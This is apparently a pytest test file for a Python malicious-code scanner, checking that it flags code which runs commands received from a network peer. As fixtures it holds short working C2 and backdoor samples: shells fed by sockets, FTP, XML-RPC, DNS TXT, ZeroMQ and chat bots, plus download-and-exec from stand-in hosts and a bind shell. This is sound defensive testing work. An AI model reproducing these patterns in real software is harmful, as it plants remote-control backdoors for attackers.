"""Network input handed over otherwise than as a call's result (caplet._scan._network_input).

A C2 loop reads its commands from a peer and runs them. The attacks below are
the spellings of issue 16 point 1 that even the whole-file pass missed before
branch recall6: asyncio's streams, ftplib's callbacks, a socket wrapped in TLS
by an SSL context, an XML-RPC proxy's answers. Each reaches a process or code
sink; the near misses read the same inputs and run nothing they say.
"""

from __future__ import annotations

import ast
import textwrap
from pathlib import Path

import pytest

from caplet._findings import Severity
from caplet._scan._flow import Flow
from caplet._scan._model import ScanMode
from caplet._scan._network_input import callback_data, peer_input, wraps_network
from caplet._scan._scanner import scan_source
from caplet._scan._syntax import Survey, survey
from tests._scan.prefilterkit import tree_both_ways


def danger(source: str, mode: ScanMode = ScanMode.PACKAGE) -> set[str]:
    findings = scan_source(textwrap.dedent(source), "pkg/__init__.py", mode=mode)
    return {f.rule_id for f in findings if f.severity is Severity.DANGER}


_ATTACKS = [
    # asyncio's streams: the reader's lines are the peer's commands
    """
    import asyncio, subprocess
    async def loop():
        reader, writer = await asyncio.open_connection("198.51.100.7", 8443)
        while True:
            line = await reader.readline()
            subprocess.run(line.decode(), shell=True)
    """,
    """
    import asyncio
    async def sync(host, port):
        r, w = await asyncio.open_connection(host, port)
        data = await r.read(4096)
        await asyncio.create_subprocess_shell(data.decode())
    """,
    # ftplib hands what it receives to a callback: a list it fills, a function of the file
    """
    import ftplib
    lines = []
    ftp = ftplib.FTP("ftp.updates-cdn.example")
    ftp.login()
    ftp.retrlines("RETR stage2.py", lines.append)
    exec("\\n".join(lines))
    """,
    """
    import io
    from ftplib import FTP
    buf = io.BytesIO()
    f = FTP()
    f.connect("192.0.2.44", 21)
    f.retrbinary("RETR /pub/k.bin", buf.write)
    exec(compile(buf.getvalue(), "<k>", "exec"))
    """,
    """
    import os
    from ftplib import FTP
    def handle(line):
        os.system(line)
    c = FTP("files.pkgmirror.example")
    c.retrlines("RETR tasks.txt", callback=handle)
    """,
    """
    import os
    from ftplib import FTP
    c = FTP("files.pkgmirror.example")
    c.retrlines("RETR tasks.txt", lambda line: os.system(line))
    """,
    # a socket wrapped in TLS by an SSL context
    """
    import socket, ssl, subprocess
    ctx = ssl.create_default_context()
    raw = socket.create_connection(("198.51.100.23", 443))
    s = ctx.wrap_socket(raw, server_hostname="cdn.example")
    while True:
        subprocess.Popen(s.recv(1024).decode(), shell=True)
    """,
    """
    import socket, ssl, os
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    with socket.create_connection(("198.51.100.23", 443)) as raw:
        with ctx.wrap_socket(raw) as s:
            os.popen(s.recv(1024).decode())
    """,
    # every method of an XML-RPC proxy is a request: its answer is the server's
    """
    import os, xmlrpc.client
    srv = xmlrpc.client.ServerProxy("http://rpc.metrics-hub.example:8080/RPC2")
    os.popen(srv.get_task())
    """,
    """
    from xmlrpc.client import ServerProxy
    proxy = ServerProxy("https://conf.rpcconf.example/rpc")
    eval(compile(proxy.config.fetch("default"), "<conf>", "exec"))
    """,
    # a bind shell: the connection unpacked from accept() is the peer
    """
    import socket, subprocess
    s = socket.socket()
    s.bind(("0.0.0.0", 4444))
    s.listen(1)
    conn, addr = s.accept()
    subprocess.call(conn.recv(1024), shell=True)
    """,
    # asyncio's read of a socket it is handed
    """
    import asyncio, os, socket
    async def main():
        loop = asyncio.get_running_loop()
        s = socket.socket()
        os.system((await loop.sock_recv(s, 1024)).decode())
    """,
    # a server's request handlers: the request, its path, its body are the peer's
    """
    import socketserver, subprocess
    class H(socketserver.BaseRequestHandler):
        def handle(self):
            self.request.sendall(subprocess.check_output(self.request.recv(1024), shell=True))
    """,
    """
    import socketserver, os
    class Base(socketserver.StreamRequestHandler):
        pass
    class H(Base):
        def handle(self):
            for line in self.rfile:
                os.system(line.decode())
    """,
    """
    import os
    from http.server import BaseHTTPRequestHandler
    class W(BaseHTTPRequestHandler):
        def do_GET(self):
            os.popen(self.path[1:]).read()
    """,
    """
    import http.server
    class W(http.server.SimpleHTTPRequestHandler):
        def do_POST(self):
            exec(self.rfile.read(int(self.headers["Content-Length"])))
    """,
    # an asyncio protocol's data_received
    """
    import asyncio, subprocess
    class C2(asyncio.Protocol):
        def data_received(self, data):
            subprocess.getoutput(data.decode())
    """,
    # a command published in a TXT record
    """
    import os, dns.resolver
    for r in dns.resolver.resolve("cmd.c2.example", "TXT"):
        os.system(r.to_text().strip('"'))
    """,
    # telnet's reader, what a command run over SSH prints
    """
    import telnetlib, os
    t = telnetlib.Telnet("198.51.100.9", 23)
    os.system(t.read_until(b"\\n").decode())
    """,
    """
    import paramiko, subprocess
    c = paramiko.SSHClient()
    c.connect("198.51.100.9", username="u", password="p")
    stdin, stdout, stderr = c.exec_command("cat /tmp/job")
    subprocess.run(stdout.read().decode(), shell=True)
    """,
]


@pytest.mark.parametrize("source", _ATTACKS)
def test_a_command_read_from_the_network_and_run_is_a_threat(source: str) -> None:
    found = danger(source)
    assert found & {"CPL-THR-002", "CPL-THR-020"}, found


@pytest.mark.parametrize("source", _ATTACKS)
def test_plugin_mode_reports_the_remote_command_too(source: str) -> None:
    found = danger(source, ScanMode.PLUGIN)
    assert found & {"CPL-THR-002", "CPL-THR-020"}, found


@pytest.mark.parametrize(
    "source",
    [
        # the peer's data read and logged; the process started is fixed
        """
        import asyncio, subprocess
        async def probe(host):
            reader, writer = await asyncio.open_connection(host, 80)
            banner = await reader.readline()
            print(banner)
            subprocess.run(["git", "status"])
        """,
        # a file mirrored by FTP into a list, written to disk, nothing run
        """
        import ftplib
        lines = []
        ftp = ftplib.FTP("ftp.gnu.org")
        ftp.retrlines("LIST", lines.append)
        open("listing.txt", "w").write("\\n".join(lines))
        """,
        # an SSL context's own methods: no peer's data
        """
        import ssl, subprocess
        ctx = ssl.create_default_context()
        ctx.load_verify_locations("ca.pem")
        subprocess.run(["openssl", "version"])
        """,
        # a request handler that serves files: the path names one, nothing is run
        """
        import os, subprocess
        from http.server import SimpleHTTPRequestHandler
        class Files(SimpleHTTPRequestHandler):
            def do_GET(self):
                with open(os.path.join("site", self.path.lstrip("/")), "rb") as f:
                    self.wfile.write(f.read())
                subprocess.run(["logger", "served"])
        """,
        # a class that merely has a data_received method, no protocol
        """
        import subprocess
        class Parser:
            def data_received(self, data):
                subprocess.getoutput(data.decode())
        """,
        # a resolved address in a command line: socket's resolvers answer addresses
        """
        import os, socket
        os.system("ping -c 1 " + socket.gethostbyname("pypi.org"))
        """,
        # an XML-RPC answer printed; the package index's own API
        """
        import xmlrpc.client
        pypi = xmlrpc.client.ServerProxy("https://pypi.org/pypi")
        print(pypi.package_releases("caplet"))
        """,
    ],
)
def test_network_input_that_runs_nothing_is_not_a_remote_command(source: str) -> None:
    assert not danger(source) & {"CPL-THR-002", "CPL-THR-020"}


def _surveyed(source: str) -> Survey:
    surveyed = survey(ast.parse(textwrap.dedent(source)), 200, 100_000)
    assert isinstance(surveyed, Survey)
    return surveyed


def test_callback_data_names_the_parameters_and_the_filled_containers() -> None:
    surveyed = _surveyed(
        """
        from ftplib import FTP
        class Sink:
            def take(self, block): pass
        def on_line(line): pass
        f = FTP("h")
        f.retrlines("RETR a", on_line)
        f.retrbinary("RETR b", callback=self.buf.write)
        f.retrlines("RETR c", lambda text: None)
        f.retrlines("RETR d", Sink().take)
        other.retrlines("RETR e", lines.append)
        """
    )
    flow = Flow(surveyed.bindings, surveyed.nodes, surveyed.scopes)
    found = callback_data(flow.calls(), surveyed.bindings, flow.resolve)
    assert set(found.params) == {"line", "text"}
    # an object's method is no function of the file found by its name; ``other`` is no
    # network object: neither is followed
    assert set(found.filled) == {"self.buf"}


def test_a_socket_wrapped_by_a_context_is_a_network_object() -> None:
    surveyed = _surveyed(
        """
        import socket, ssl
        ctx = ssl.create_default_context()
        s = ctx.wrap_socket(socket.socket(), server_hostname="h")
        t = ctx.wrap_socket(open("f"))
        u = await ctx.wrap_socket(socket.create_connection(("h", 1)))
        """
    )
    flow = Flow(surveyed.bindings, surveyed.nodes, surveyed.scopes)
    wrapped = {
        name: wraps_network(ast.Name(name), surveyed.bindings, flow.resolve)
        for name in ("s", "t", "u", "ctx", "nothing")
    }
    assert wrapped == {"s": True, "t": False, "u": True, "ctx": False, "nothing": False}


def test_peer_input_finds_handlers_through_the_files_own_classes() -> None:
    surveyed = _surveyed(
        """
        import asyncio, socketserver
        class Base(socketserver.StreamRequestHandler):
            def setup(self): pass
        class Shell(Base):
            def handle(self): pass
        class Link(asyncio.Protocol):
            def data_received(self, data): pass
            def eof_received(self): pass
        class Plain:
            def data_received(self, data): pass
        class Loop(Loop):
            def handle(self): pass
        """
    )
    flow = Flow(surveyed.bindings, surveyed.nodes, surveyed.scopes)
    classes = [n for n in surveyed.nodes if isinstance(n, ast.ClassDef)]
    found = peer_input(classes, flow.resolve)
    methods = {
        id(f): f"{c.name}.{f.name}"
        for c in classes
        for f in c.body
        if isinstance(f, ast.FunctionDef)
    }
    assert {methods[i] for i in found.attributes["rfile"]} == {"Base.setup", "Shell.handle"}
    assert {a for a, ids in found.attributes.items() if ids} >= {"request", "path", "headers"}
    assert {name: {methods[i] for i in ids} for name, ids in found.params.items()} == {
        "data": {"Link.data_received"}
    }


# -- recall10: pycurl's write options and ZeroMQ's receivers ------------------------------
#: Each passed both modes before (pycurl's body lands in a buffer or a file handed to
#: ``setopt``, no call returns it; ZeroMQ was no network module).
_RECALL10_ATTACKS = {
    "pycurl-writedata-file-run": """
    import pycurl, os, subprocess
    f = open("/tmp/x.bin", "wb")
    c = pycurl.Curl()
    c.setopt(pycurl.URL, "http://198.51.100.7/x")
    c.setopt(pycurl.WRITEDATA, f)
    c.perform()
    f.close()
    os.chmod("/tmp/x.bin", 0o755)
    subprocess.call(["/tmp/x.bin"])
    """,
    "pycurl-writefunction-exec": """
    import pycurl, io
    buf = io.BytesIO()
    c = pycurl.Curl()
    c.setopt(c.URL, "http://198.51.100.7/x")
    c.setopt(c.WRITEFUNCTION, buf.write)
    c.perform()
    exec(buf.getvalue())
    """,
    "pycurl-writedata-buffer-exec": """
    import pycurl, io
    buf = io.BytesIO()
    c = pycurl.Curl()
    c.setopt(c.URL, "http://198.51.100.7/x")
    c.setopt(c.WRITEDATA, buf)
    c.perform()
    exec(buf.getvalue().decode())
    """,
    "zmq-recv-exec": """
    import zmq
    s = zmq.Context().socket(zmq.SUB)
    s.connect("tcp://198.51.100.7:5555")
    while True:
        exec(s.recv())
    """,
    "zmq-recv-string-exec": """
    import zmq
    s = zmq.Context().socket(zmq.REP)
    s.bind("tcp://*:5555")
    exec(s.recv_string())
    """,
}


@pytest.mark.parametrize("shape", sorted(_RECALL10_ATTACKS))
def test_a_transfer_written_by_pycurl_or_a_zeromq_message_run_is_a_threat(
    shape: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    source = textwrap.dedent(_RECALL10_ATTACKS[shape])
    assert danger(source) & {"CPL-THR-002", "CPL-THR-020"}
    assert danger(source, ScanMode.PLUGIN) & {"CPL-THR-002", "CPL-THR-020"}
    # and package mode's prefilter sends the file
    (tmp_path / "mod.py").write_text(source, encoding="utf-8")
    filtered, whole = tree_both_ways(tmp_path, monkeypatch)
    assert filtered == whole
    assert {r for r, _, _ in whole} & {"CPL-THR-002", "CPL-THR-020"}


@pytest.mark.parametrize(
    "source",
    [
        # a download kept as data, a message printed: nothing run
        """
        import pycurl, io, json
        buf = io.BytesIO()
        c = pycurl.Curl()
        c.setopt(c.URL, "https://example.org/data.json")
        c.setopt(c.WRITEDATA, buf)
        c.perform()
        print(json.loads(buf.getvalue()))
        """,
        """
        import zmq
        s = zmq.Context().socket(zmq.SUB)
        s.connect("tcp://127.0.0.1:5555")
        print(s.recv_string())
        """,
    ],
    ids=["pycurl", "zmq"],
)
def test_a_transfer_or_a_message_that_runs_nothing_is_no_threat(source: str) -> None:
    assert not danger(source) & {"CPL-THR-002", "CPL-THR-020"}


#: blind15 (tune b15-np-zulip-c2, ZiChatBot of July 2025): a Zulip client's message
#: callback is a chat bot's handler; its message run as a command is a remote command.
ZULIP_C2 = (
    "import subprocess, zulip\n"
    "client = zulip.Client(email='b@chat.example', api_key='k', site='https://chat.example')\n"
    "def on(msg):\n"
    "    out = subprocess.run(msg['content'], shell=True, capture_output=True).stdout\n"
    "    client.send_message({'type': 'private', 'to': msg['sender_email'], 'content': out})\n"
    "client.call_on_each_message(on)\n"
)


def test_a_zulip_message_run_as_a_command_is_a_remote_command(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert "CPL-THR-020" in danger(ZULIP_C2)
    (tmp_path / "mod.py").write_text(ZULIP_C2, encoding="utf-8")
    filtered, whole = tree_both_ways(tmp_path, monkeypatch)
    assert filtered == whole


def test_a_zulip_bot_that_runs_a_fixed_command_is_not_a_threat() -> None:
    # a deploy bot running its own script when asked: the message picks nothing
    source = ZULIP_C2.replace("msg['content'], shell=True", "['./deploy.sh'], shell=False")
    assert "CPL-THR-020" not in danger(source)


def test_a_handler_registered_with_a_bot_instance_is_a_handler() -> None:
    # the same registration through any framework's instance, not a decorator
    source = (
        "import os, telebot\n"
        "bot = telebot.TeleBot('0:token')\n"
        "def on(msg):\n"
        "    os.system(msg.text)\n"
        "bot.register_message_handler(on)\n"
    )
    assert "CPL-THR-020" in danger(source)
